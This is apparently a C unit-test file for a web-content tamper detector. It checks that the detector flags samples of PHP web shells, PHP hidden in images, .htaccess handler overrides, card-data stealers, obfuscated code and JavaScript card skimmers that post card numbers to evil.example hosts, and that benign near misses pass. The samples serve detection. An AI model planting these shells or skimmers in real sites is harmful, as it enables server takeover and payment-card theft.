/*
 * What is seen in content and what is not: each technique with a near miss beside it. The
 * samples are fragments that do nothing; they have the shape a detector looks for.
 */
#include "detect/tamper/content.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "base/buffer.h"
#include "detect/tamper/yara.h"
#include "event/json.h"

static json_t *assay(const char *name, enum zone zone, const char *before, const char *after) {
        struct content_request request = {
                .name = name,
                .zone = zone,
                .before = (const unsigned char *)before,
                .before_size = before ? strlen(before) : 0,
                .after = (const unsigned char *)after,
                .after_size = strlen(after),
        };
        json_t *content = content_assay(NULL, &request);
        assert_non_null(content);
        return content;
}

static bool has_indicator(const json_t *content, const char *id) {
        size_t i;
        json_t *indicator;
        json_array_foreach (json_object_get(content, "indicators"), i, indicator)
                if (!strcmp(json_get_string(indicator, "id"), id))
                        return true;
        return false;
}

struct sample {
        const char *name;
        const char *text;
        const char *indicator; /* NULL: none at all */
};

static void check(const struct sample *samples, size_t n, enum zone zone) {
        for (size_t i = 0; i < n; i++) {
                json_t *content = assay(samples[i].name, zone, NULL, samples[i].text);
                const json_t *indicators = json_object_get(content, "indicators");
                bool right = samples[i].indicator ? has_indicator(content, samples[i].indicator)
                                                  : json_array_size(indicators) == 0;
                char *shown = json_dumps(indicators, 0);
                if (!right)
                        fail_msg("%s: %s is %s, not %s", samples[i].name, samples[i].text, shown,
                                 samples[i].indicator ?: "nothing");
                free(shown);
                json_decref(content);
        }
}

#define PNG "\x89PNG\r\n\x1a\n"

static void media(void **state _unused_) {
        static const struct sample samples[] = {
                {"a.jpg", "\xff\xd8\xff\xe0 JFIF", NULL},
                {"a.jpg", PNG "IHDR", NULL}, /* one image under another's name is common */
                {"a.ico", PNG "IHDR", NULL},
                {"a.jpg", "", NULL},
                {"a.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>", NULL},
                {"a.svg", "<?xml version='1.0'?><svg><path d='M0'/></svg>", NULL},
                {"a.webp", "RIFF1234WEBPVP8 ", NULL},
                {"a.jpg", "hello", "image_bytes_mismatch"},
                {"a.PNG", "\x1f\x8b\x08 data", "image_bytes_mismatch"},
                {"a.svg", "hello", "image_bytes_mismatch"},
                {"a.webp", "RIFF1234WAVEfmt ", "image_bytes_mismatch"},
                {"a.jpg", "<?php x();", "image_bytes_mismatch"},
                {"a.txt", "hello", NULL},
                {"a.dat",
                 "\x7f"
                 "ELF\2\1\1",
                 "executable"},
        };
        check(samples, ARRAY_SIZE(samples), ZONE_DATA);
}

static void php_tags(void **state _unused_) {
        static const struct sample samples[] = {
                {"a.jpg", "\xff\xd8\xff\xe0 Exif <?php system($_GET[0]);", "php_tag_in_image"},
                {"a.gif", "GIF89a;<?PHP\nx();", "php_tag_in_image"},
                {"a.png", PNG "tEXt <?=`$_GET[0]`?>", "php_tag_in_image"},
                {"a.png", PNG "tEXt <script language='php'>x()</script>", "php_tag_in_image"},
                {"a.svg", "<svg><?php x(); ?></svg>", "php_tag_in_image"},
                {"a.pdf", "%PDF-1.4 <?php x();", "php_tag_in_image"},
                {"a.woff2", "wOF2 <?php x();", "php_tag_in_image"},
                {"a.png", PNG "<?=\x01\x02\x03;", NULL}, /* random bytes */
                {"a.png", PNG "<?=ab\xff;", NULL},
                {"a.jpg", "\xff\xd8\xff\xe1 <?xpacket begin='' id='W5M0'?> ($) ;", NULL},
                {"a.jpg", "\xff\xd8\xff\xe1 <?phpx", NULL},
                {"a.zip", "PK\3\4 stored <?php x();", NULL}, /* an archive may hold PHP */
                {"a.gif", "PK\3\4 stored <?php x();", "php_tag_in_image"},
                {"a.txt", "x <?php y();", "php_tag_in_text"},
                {"a.txt", "x &lt;?php y();", NULL},
                {"a.xml", "<?xml version='1.0'?><a/>", NULL},
                {"access.log", "GET /?q=<?php x(); HTTP/1.1", NULL}, /* a robot's request in a log */
                {"access.log", "<?php x();", "php_tag_in_text"},
                {"a.php", "<?php x();", NULL}, /* its place is judged, not its tag */
        };
        check(samples, ARRAY_SIZE(samples), ZONE_DATA);
}

static void settings(void **state _unused_) {
        static const struct sample samples[] = {
                {".htaccess", "AddType application/x-httpd-php .jpg\n", "handler_override"},
                {".htaccess", "  addhandler php-script .php .png\n", "handler_override"},
                {".htaccess", "SetHandler application/x-httpd-php\n", "handler_override"},
                {".htaccess", "SetHan\\\ndler application/x-httpd-php\n", "handler_override"},
                {".htaccess", "php_value \"auto_prepend_file\" x.jpg\n", "handler_override"},
                {".htaccess", "RewriteRule \\.jpg$ - [L,H=application/x-httpd-php]\n", "handler_override"},
                {".htaccess",
                 "<FilesMatch \"\\.(jpg|php)$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n",
                 "handler_override"},
                {".htaccess", "php_value auto_prepend_file /tmp/x.jpg\n", "handler_override"},
                {".htaccess", "php_flag engine on\n", "handler_override"},
                {".user.ini", "auto_prepend_file = a.gif\n", "handler_override"},
                {".htaccess", "# BEGIN WordPress\nRewriteEngine On\nRewriteRule . /index.php [L]\n", NULL},
                {".htaccess", "AddHandler application/x-httpd-ea-php82 .php .php8 .phtml\n", NULL},
                {".htaccess",
                 "<FilesMatch \"\\.php$\">\nSetHandler "
                 "\"proxy:unix:/run/php.sock|fcgi://x\"\n</FilesMatch>\n",
                 NULL},
                {".htaccess",
                 "php_value auto_prepend_file none\nphp_flag engine off\nphp_value memory_limit 1G\n", NULL},
                {".htaccess", "AddType image/webp .webp\n", NULL},
                {".user.ini", "; auto_prepend_file = a\nmemory_limit = 256M\nauto_prepend_file =\n", NULL},
        };
        check(samples, ARRAY_SIZE(samples), ZONE_EDITABLE);
}

static void web_shells(void **state _unused_) {
        static const struct sample samples[] = {
                {"a.php", "<?php @eval($_POST['x']);", "web_shell"},
                {"a.php", "<?php eval /* hidden */ ( stripslashes( $_REQUEST [ 'x' ] ) ) ;", "web_shell"},
                {"a.php", "<?php $c = $_GET['c']; system($c . ' 2>&1');", "web_shell"},
                {"a.php",
                 "<?php $c = isset($_GET['c']) ? $_GET['c'] : ''; $d = trim($c); echo shell_exec($d);",
                 "web_shell"},
                {"a.php", "<?php echo `$_GET[c]`;", "web_shell"},
                {"a.php", "<?php $_GET['f']($_GET['a']);", "web_shell"},
                {"a.php", "<?php $f = $_COOKIE['f']; $f('x');", "web_shell"},
                {"a.php", "<?php call_user_func($_POST['f'], 1);", "web_shell"},
                {"a.php", "<?php usort($a, $_POST['f']);", "web_shell"},
                {"a.php", "<?php array_map('assert', $a);", "web_shell"},
                {"a.php", "<?php assert($_REQUEST['x']);", "web_shell"},
                {"a.php", "<?php include($_GET['page'] . '.php');", "web_shell"},
                {"a.php", "<?php file_put_contents($_POST['f'], $_POST['c']);", "web_shell"},
                {"a.php", "<?php passthru($_SERVER['HTTP_X_CMD']);", "web_shell"},
                {"a.php", "<?php eval(file_get_contents('php://input'));", "web_shell"},
                {"a.php", "text <?= system($_GET['c']) ?>", "web_shell"},
                {"a.php", "<?system($_GET['c']);", "web_shell"}, /* with short tags */
                {"a.php", "<?xml version='1.0'?><?\neval($_POST['c']);", "web_shell"},
                /* near misses */
                {"a.php", "<?php $name = trim($_POST['name']); echo esc_html($name);", NULL},
                {"a.php",
                 "<?php // eval($_POST['x']);\n/* system($_GET['c']) */ # assert($_GET['x'])\nrun();", NULL},
                {"a.php", "<?php echo 'eval($_POST[x])';", NULL},
                {"a.php", "<?php $db->exec($_POST['id']); Process::system($_GET['a']);", NULL},
                {"a.php", "<?php function system($a) {} class A { function exec($b) {} }", NULL},
                {"a.php", "<?php exec('convert ' . escapeshellarg($_GET['f']));", NULL},
                {"a.php", "<?php $ids = array_map('absint', $_POST['ids']); usort($ids, 'strcmp');", NULL},
                {"a.php", "<?php array_filter($_POST, 'is_string');", NULL},
                {"a.php", "<?php $c = $map[$_GET['c']]; $c();", NULL},
                {"a.php", "<?php assert($x instanceof Foo); include __DIR__ . '/a.php';", NULL},
                {"a.php", "<?php system('ls', $_SERVER['DOCUMENT_ROOT']);", NULL},
                {"a.php", "eval($_POST['x'])", NULL}, /* no tag, no code */
        };
        check(samples, ARRAY_SIZE(samples), ZONE_CODE);
}

static void stealers(void **state _unused_) {
        static const struct sample samples[] = {
                {"a.php", "<?php file_put_contents('a.jpg', json_encode($_POST), FILE_APPEND);",
                 "request_exfil"},
                {"a.php", "<?php $d = base64_encode(serialize($_REQUEST)); fwrite($fp, $d . \"\\n\");",
                 "request_exfil"},
                {"a.php", "<?php file_put_contents($p, $_POST['card_no'] . '|' . $_POST['cvv'], 8);",
                 "request_exfil"},
                {"a.php", "<?php mail('a@b.example', 'x', $_POST['cardNumber'] . $_POST['exp_month']);",
                 "request_exfil"},
                {"a.php",
                 "<?php $l = $_POST['cc_number'] . $_POST['cc_cvc']; curl_setopt($ch, CURLOPT_POSTFIELDS, "
                 "$l);",
                 "request_exfil"},
                {"a.php", "<?php error_log(print_r($request->request->all(), true), 3, 'x');",
                 "request_exfil"},
                {"a.php", "<?php file_put_contents('x', file_get_contents('php://input'));", "request_exfil"},
                /* near misses */
                {"a.php", "<?php file_put_contents($cache, json_encode($config));", NULL},
                {"a.php", "<?php fwrite($fp, $_POST['comment']);", NULL},
                {"a.php", "<?php $form->add('card_no'); $form->add('security_code'); $gateway->pay($form);",
                 NULL},
                {"a.php", "<?php mail($to, $subject, implode(\"\\n\", $_POST));", NULL}, /* a contact form */
                {"a.php", "<?php curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($_POST));",
                 NULL}, /* a payment notice */
        };
        check(samples, ARRAY_SIZE(samples), ZONE_CODE);
}

#define BASE64_20  "aGVsbG8gd29ybGQgaGVs"
#define BASE64_100 BASE64_20 BASE64_20 BASE64_20 BASE64_20 BASE64_20
#define BASE64_1K                                                                                            \
        BASE64_100 BASE64_100 BASE64_100 BASE64_100 BASE64_100 BASE64_100 BASE64_100 BASE64_100 BASE64_100   \
                BASE64_100 BASE64_100

static void obfuscated_php(void **state _unused_) {
        static const struct sample samples[] = {
                {"a.php", "<?php eval(base64_decode('aGVsbG8='));", "obfuscated"},
                {"a.php", "<?php $x = gzinflate(base64_decode($y)); eval('?>' . $x);", "obfuscated"},
                {"a.php", "<?php $f = 'base' . '64_decode'; echo $f('eA==');", "obfuscated"},
                {"a.php", "<?php $f = 'system'; $f('x');", "obfuscated"},
                {"a.php", "<?php preg_replace('/.*/e', $a, $b);", "obfuscated"},
                {"a.php", "<?php preg_replace(\"#x#isUe\", $a, $b);", "obfuscated"},
                {"a.php", "<?php $a = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);", "obfuscated"},
                {"a.php", "<?php $f = $s[3].$s[17].$s[4].$s[8].$s[1].$s[0]; $f(1);", "obfuscated"},
                {"a.php", "<?php $a = \"\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x29\\x3b\";", "obfuscated"},
                {"a.php", "<?php ${\"\\x47LOBALS\"}['a'] = 1;", "obfuscated"},
                {"a.php", "<?php $GLOBALS['a'][3]('x');", "obfuscated"},
                {"a.php", "<?php $O0O0O0=1;$O00OO0=2;$OO00O0=3;$O0OO00=4;$OO0O00=5;$O000OO=6;", "obfuscated"},
                {"a.php", "<?php include 'img/favicon.ico';", "obfuscated"},
                {"a.php", "<?php $a = ('`' ^ '!') . ('<' ^ '[');", "obfuscated"},
                {"a.php", "<?php $p = '" BASE64_1K "'; $d = base64_decode($p); eval(\"$d\");", "obfuscated"},
                {"a.php", "<?php $u = 'aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA=='; curl_init($u);", "obfuscated"},
                {"a.php", "<?php create_function('', base64_decode($x));", "obfuscated"},
                /* near misses */
                {"a.php", "<?php $x = base64_decode($row['image']); echo $x;", NULL},
                {"a.php", "<?php preg_replace('/e/', 'x', $b); preg_replace('#([a-e]+)#i', '', $b);", NULL},
                {"a.php",
                 "<?php $bom = chr(0xEF).chr(0xBB).chr(0xBF); $h = "
                 "chr(0).chr(1).chr(2).chr(3).chr(4).chr(5);",
                 NULL},
                {"a.php",
                 "<?php $t = \"\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\x09\\x0a\\x0b\\x0c\\x0d\";",
                 NULL},
                {"a.php", "<?php $logo = '" BASE64_1K "'; echo $logo;", NULL},
                {"a.php", "<?php $callback = array($this, 'run'); $callback($x); $f = 'strlen'; $f($x);",
                 NULL},
                {"a.php", "<?php $s = 'a' . 'b' . $x[0] . $x[1]; include 'icon.svg'; echo 'logo.png';", NULL},
                {"a.php", "<?php $a = $b ^ $c; $m = 'x' ^ $k;", NULL},
                {"a.php", "<?php $x = <<<EOT\neval(base64_decode('x'))\nEOT;\nrun($x);", NULL},
                {"a.php", "<?php eval($template);", NULL},
        };
        check(samples, ARRAY_SIZE(samples), ZONE_CODE);
}

#define BRACKETS_20  "[]+[](![]+[])!![]([]"
#define BRACKETS_100 BRACKETS_20 BRACKETS_20 BRACKETS_20 BRACKETS_20 BRACKETS_20

static void obfuscated_js(void **state _unused_) {
        static const struct sample samples[] = {
                {"a.js", "eval(atob('YWxlcnQoMSk='))", "obfuscated"},
                {"a.js", "new Function(decodeURIComponent(x))()", "obfuscated"},
                {"a.js", "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))", "obfuscated"},
                {"a.js", "x=String.fromCharCode(104,116,116,112,115,58,47,47)", "obfuscated"},
                {"a.js", "var _0x1a2b=[],_0x2b3c=1,_0x3c4d=2;_0x1a2b(_0x2b3c,_0x3c4d)", "obfuscated"},
                {"a.js", "x='\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x65\\x76\\x69\\x6c'", "obfuscated"},
                {"a.js", "var u=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA==')", "obfuscated"},
                {"a.js", "var u='sj.x/elpmaxe.live//:sptth'", "obfuscated"},
                {"a.js", "w['ev'+'al'](x)", "obfuscated"},
                {"a.js", "document['cre'+'ateEl'+'ement'](x)", "obfuscated"},
                {"a.html", "<p>x</p><script>eval(atob(x))</script>", "obfuscated"},
                {"a.twig", "{{ x }}<script type='text/javascript'>eval(unescape(x))</script>", "obfuscated"},
                {"a.js", BRACKETS_100 BRACKETS_100 BRACKETS_100, "obfuscated"},
                /* near misses */
                {"a.js", BRACKETS_100 "a" BRACKETS_100, NULL},
                {"a.js", "var g=Function('return this')();setTimeout(function(){atob(x)},1)", NULL},
                {"a.js", "String.fromCharCode(a,b);String.fromCharCode(55296,56320,57343,1,2,3,4,5,6)", NULL},
                {"a.js",
                 "var "
                 "r=/[\\x00-\\x1f\\x7f]/,s='\\u0021-\\u002F\\u003A-\\u0040\\u005B-\\u0060\\u007B-\\u007E'",
                 NULL},
                {"a.js", "// eval(atob(x))\nvar r=/\"/;f('eval(atob(x))')", NULL},
                {"a.js", "document.write('<scr'+'ipt>')", NULL},
                {"a.js", "var img='data:image/png;base64," BASE64_1K "'", NULL},
                {"a.js", "var t='aGVsbG8gd29ybGQgaGVsbG8='", NULL},
                {"a.html", "<p>eval(atob(x))</p>", NULL},
        };
        check(samples, ARRAY_SIZE(samples), ZONE_CODE);
}

static void skimmers(void **state _unused_) {
        static const struct sample samples[] = {
                {"a.js",
                 "d.querySelector('#card_number').value+d.querySelector('#cvv').value;"
                 "new Image().src='https://cdn.evil.example/p.gif?d='+btoa(x)",
                 "js_skimmer"},
                {"a.twig",
                 "<input name=\"cardNo\"><script>var "
                 "s=JSON.stringify({a:f.cardNo.value,b:f.securityCode.value});"
                 "fetch('//evil.example/c',{method:'POST',body:s})</script>",
                 "js_skimmer"},
                {"a.html",
                 "<form action='https://pay.evil.example/x'><input name=card_number><input name=cvc></form>",
                 "fake_payment_form"},
                /* near misses */
                {"a.js",
                 "d.querySelector('#card_number').value+d.querySelector('#cvv').value;"
                 "fetch('/shopping/pay',{body:JSON.stringify(x)})",
                 NULL},
                {"a.js", "fetch('https://stats.example/c',{body:JSON.stringify(document.title)})", NULL},
                {"a.html", "<form action='/shopping'><input name=card_number><input name=cvc></form>", NULL},
                {"a.html",
                 "<form action='https://pay.example/redirect'><input type=hidden name=order_id></form>",
                 NULL},
                {"a.html",
                 "<form action='https://news.example/x'><input name=mail></form><form action='/pay'>"
                 "<input name=card_number><input name=cvc></form>",
                 NULL},
        };
        check(samples, ARRAY_SIZE(samples), ZONE_EDITABLE);
}

static void svg(void **state _unused_) {
        static const struct sample samples[] = {
                {"a.svg", "<svg><script>x()</script></svg>", "script_in_svg"},
                {"a.svg", "<svg onload=\"x()\"></svg>", "script_in_svg"},
                {"a.svg", "<svg><text font-size='1'>one = two</text></svg>", NULL},
        };
        check(samples, ARRAY_SIZE(samples), ZONE_DATA);
}

/* Only what became more is reported. */
static void an_edit_is_not_what_stood_there(void **state _unused_) {
        static const char old[] = "<?php eval(base64_decode('eA=='));\n";
        json_t *content =
                assay("a.php", ZONE_CODE, old, "<?php eval(base64_decode('eA=='));\n$version = 2;\n");
        assert_int_equal(json_array_size(json_object_get(content, "indicators")), 0);
        json_decref(content);
        content = assay("a.php", ZONE_CODE, old,
                        "<?php eval(base64_decode('eA=='));eval(base64_decode('eQ=='));");
        assert_true(has_indicator(content, "obfuscated"));
        json_decref(content);
}

static bool has_php(const char *name, const char *text) {
        json_t *content = assay(name, ZONE_DATA, NULL, text);
        bool yes = json_is_true(json_object_get(content, "php"));
        json_decref(content);
        return yes;
}

static void php_that_does_nothing(void **state _unused_) {
        assert_true(has_php("a.php", "<?php x();"));
        assert_true(has_php("a.jpg", "\xff\xd8\xff <?php x();"));
        assert_true(has_php("a.php", "<?= $x ?>"));
        assert_false(has_php("index.php", "<?php\n// Silence is golden.\n"));
        assert_false(has_php("index.php", "<?php /* x(); */ # y();\n?>\n"));
        assert_false(has_php("index.php", ""));
        assert_false(has_php("index.php", "<html></html>"));
        assert_false(has_php("a.php", "<?php exit; ?> data: x();"));
        assert_false(has_php("a.php", "<?php die('No access'); run();"));
        assert_true(has_php("a.php", "<?php die(system('x'));"));
        assert_true(has_php("a.php", "<?php exit(\"{$x()}\");"));
        assert_true(has_php("a.php", "<?php $x = 1; exit; run();"));
}

static void check_hosts(const char *name, const char *text, const char *expected) {
        json_t *hosts = content_hosts(name, (const unsigned char *)text, strlen(text));
        _cleanup_(buffer_deinit) struct buffer joined = {0};
        size_t i;
        json_t *host;
        buffer_reserve(&joined, 0);
        json_array_foreach (hosts, i, host)
                buffer_format(&joined, "%s%s", i ? " " : "", json_string_value(host));
        if (strcmp(joined.data, expected))
                fail_msg("%s: '%s' is not '%s'", text, joined.data, expected);
        json_decref(hosts);
}

static void hosts(void **state _unused_) {
        check_hosts("a.html", "<script src=\"https://cdn.evil.example/x.js\"></script>", "cdn.evil.example");
        check_hosts("a.html", "<SCRIPT async src='//a.example:8080/x'></SCRIPT>", "a.example");
        check_hosts("a.html", "<script src=//a.example/x></script>", "a.example");
        check_hosts("a.html", "<script src=\"https&#58;&#x2f;/a.example/x\"></script>", "a.example");
        check_hosts("a.html", "<script src=\"ht\ntps:\\\\a.example\\x\"></script>", "a.example");
        check_hosts("a.html", "<script src=\"https://user@a.example/x\"></script>", "a.example");
        check_hosts("a.html",
                    "<iframe src='https://f.example/'></iframe><form action=\"https://g.example/\">",
                    "f.example g.example");
        check_hosts("a.html", "<img src=x onerror=\"location='//o.example/'+document.cookie\">", "o.example");
        check_hosts("a.html", "<meta http-equiv=refresh content='0;url=https://m.example/'>", "m.example");
        check_hosts("a.php", "<?php echo '<script src=\"//p.example/x\"></script>';", "p.example");
        check_hosts("a.php", "<?php curl_init('https://c.example/?x='); fsockopen('ssl.d.example', 443);",
                    "c.example ssl.d.example");
        check_hosts("a.js", "var u='https:\\/\\/j.example\\/x';new WebSocket(\"wss://w.example/\")",
                    "j.example w.example");
        check_hosts("a.js", "importScripts(`//i.example/x.js`);u='https://'+'s.example/x'",
                    "i.example s.example");
        check_hosts("a.js", "u='htt'+'ps://ev'+'il.exa'+'mple/x'", "evil.example");
        check_hosts("a.js", "u=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA==')", "evil.example");
        check_hosts("a.js", "u='\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x65\\x2e\\x65\\x78'", "e.ex");
        check_hosts("a.js", "u='%68%74%74%70%3a%2f%2fq.example'", "q.example");
        check_hosts("a.js", "el.innerHTML='<script src=\"//n.example/\">'", "n.example");
        check_hosts("a.js", "fetch('http://203.0.113.9/x');fetch('//3232235777/x')",
                    "203.0.113.9 3232235777");
}

static void no_hosts(void **state _unused_) {
        check_hosts("a.html",
                    "<a href=\"https://link.example/\">x</a><img src=\"https://img.example/a.png\">", "");
        check_hosts("a.html", "<p>see https://prose.example/ and //slashes.example</p>", "");
        check_hosts("a.html",
                    "<script src=\"/local.js\"></script><script src=\"{{ asset('x.js') }}\"></script>", "");
        check_hosts("a.html", "<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>", "");
        check_hosts("a.js",
                    "// https://comment.example/\n/* '//x.example' */ var ns='http://www.w3.org/1999/xhtml'",
                    "");
        check_hosts("a.js", "var m='See https://doc.example/ for more';r=/https:\\/\\/re.example/", "");
        check_hosts("a.js", "var a='//cdn.min.js',b='//',c='http://localhost/',d='a//b.example'", "");
        check_hosts("a.php", "<?php // https://c.example\n$a = 'a <a href=\"https://l.example/\">x</a>';",
                    "");
        check_hosts("a.css", "a{background:url(https://i.example/x.png)}", "");
        check_hosts("a.txt", "https://t.example/", "");
}

static void new_hosts(void **state _unused_) {
        json_t *content = assay("a.js", ZONE_EDITABLE, "f('https://old.example/')",
                                "f('https://old.example/');f('https://new.example/')");
        assert_int_equal(json_array_size(json_object_get(content, "hosts")), 2);
        const json_t *fresh = json_object_get(content, "new_hosts");
        assert_int_equal(json_array_size(fresh), 1);
        assert_string_equal(json_string_value(json_array_get(fresh, 0)), "new.example");
        json_decref(content);

        /* a cached page embeds what its editor embedded */
        content = assay("a.html", ZONE_DATA, NULL, "<iframe src='//video.example'></iframe>");
        assert_int_equal(json_array_size(json_object_get(content, "new_hosts")), 0);
        json_decref(content);
}

#define LIST "<?php\n$menu = ['home' => '/', 'shop' => 'https://old.example/'%s];\n%s"

static size_t n_new_hosts(enum zone zone, const char *element, const char *code) {
        char before[512], after[512];
        snprintf(before, sizeof(before), LIST, "", "");
        snprintf(after, sizeof(after), LIST, element, code);
        json_t *content = assay("a.php", zone, before, after);
        size_t n = json_array_size(json_object_get(content, "new_hosts"));
        json_decref(content);
        return n;
}

static void a_link_in_a_list_is_no_new_host(void **state _unused_) {
        assert_int_equal(n_new_hosts(ZONE_EDITABLE, ", 'partner' => 'https://new.example/shop'", ""), 0);
        assert_int_equal(
                n_new_hosts(ZONE_EDITABLE, ", ['label' => 'x', 'url' => 'https://new.example/']", ""), 0);
        assert_int_equal(n_new_hosts(ZONE_EDITABLE, "", "return array('https://new.example/');"), 0);
}

static void a_link_that_is_used_is_one(void **state _unused_) {
        static const struct {
                const char *element, *code;
        } used[] = {
                {", 'x' => 'https://new.example/x.js'", ""},
                {", 'script' => 'https://new.example/x'", ""},
                {", 'x' => 'https://new.example/'", "echo \"<script src='{$menu['x']}'>\";"},
                {", 'x' => 'https://new.example/'", "curl_init($menu['x']);"},
                {", 'x' => 'https://new.example/' . $y", ""},
                {", 'x' => f('https://new.example/')", ""},
                {"", "f(['https://new.example/']);"},
                {"", "$scripts = ['https://new.example/'];"},
                {"", "$x = 'https://new.example/';"},
                {"", "include 'https://new.example/';"},
                {", 'x' => f(['https://new.example/'])", ""},
                {", 'scripts' => [['https://new.example/']]", ""},
        };
        for (size_t i = 0; i < ARRAY_SIZE(used); i++)
                assert_int_not_equal(n_new_hosts(ZONE_EDITABLE, used[i].element, used[i].code), 0);

        /* listed before, loaded now */
        json_t *loop = assay("a.php", ZONE_EDITABLE, "<?php $m = ['https://new.example/'];",
                             "<?php $m = ['https://new.example/']; echo '<script src=' . $m[0] . '>';");
        assert_int_equal(json_array_size(json_object_get(loop, "new_hosts")), 1);
        json_decref(loop);
        json_t *content = assay("a.php", ZONE_EDITABLE, "<?php $m = ['https://new.example/'];",
                                "<?php $m = ['https://new.example/']; f('https://new.example/x');");
        assert_int_equal(json_array_size(json_object_get(content, "new_hosts")), 1);
        json_decref(content);
}

static void data_that_grows(void **state _unused_) {
        json_t *content =
                assay("a.log", ZONE_DATA, "4111111111111111 12/27\n", "4111111111111111 12/27\nok\n");
        assert_false(has_indicator(content, "cards"));
        json_decref(content);
        content = assay("a.log", ZONE_DATA, "ok\n", "ok\n4111111111111111 12/27\n");
        assert_true(has_indicator(content, "cards"));
        json_decref(content);
        content = assay("a.js", ZONE_CODE, "", "test('4111111111111111', 'card')");
        assert_false(has_indicator(content, "cards"));
        json_decref(content);
        content = assay("a.gif", ZONE_DATA, "GIF89a;", "GIF89a;xyz");
        assert_true(has_indicator(content, "appended_to_image"));
        json_decref(content);
        content = assay("a.gif", ZONE_DATA, "GIF89a;", "GIF89a,xyz");
        assert_false(has_indicator(content, "appended_to_image"));
        json_decref(content);
}

static void details_are_masked(void **state _unused_) {
        json_t *content = assay("a.php", ZONE_CODE, NULL, "<?php eval($_POST['x'].'taro@mail.example');");
        const char *detail =
                json_get_string(json_array_get(json_object_get(content, "indicators"), 0), "detail");
        assert_non_null(strstr(detail, "[mail address]"));
        json_decref(content);
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(media),
                cmocka_unit_test(php_tags),
                cmocka_unit_test(settings),
                cmocka_unit_test(web_shells),
                cmocka_unit_test(stealers),
                cmocka_unit_test(obfuscated_php),
                cmocka_unit_test(obfuscated_js),
                cmocka_unit_test(skimmers),
                cmocka_unit_test(svg),
                cmocka_unit_test(an_edit_is_not_what_stood_there),
                cmocka_unit_test(php_that_does_nothing),
                cmocka_unit_test(hosts),
                cmocka_unit_test(no_hosts),
                cmocka_unit_test(new_hosts),
                cmocka_unit_test(a_link_in_a_list_is_no_new_host),
                cmocka_unit_test(a_link_that_is_used_is_one),
                cmocka_unit_test(data_that_grows),
                cmocka_unit_test(details_are_masked),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
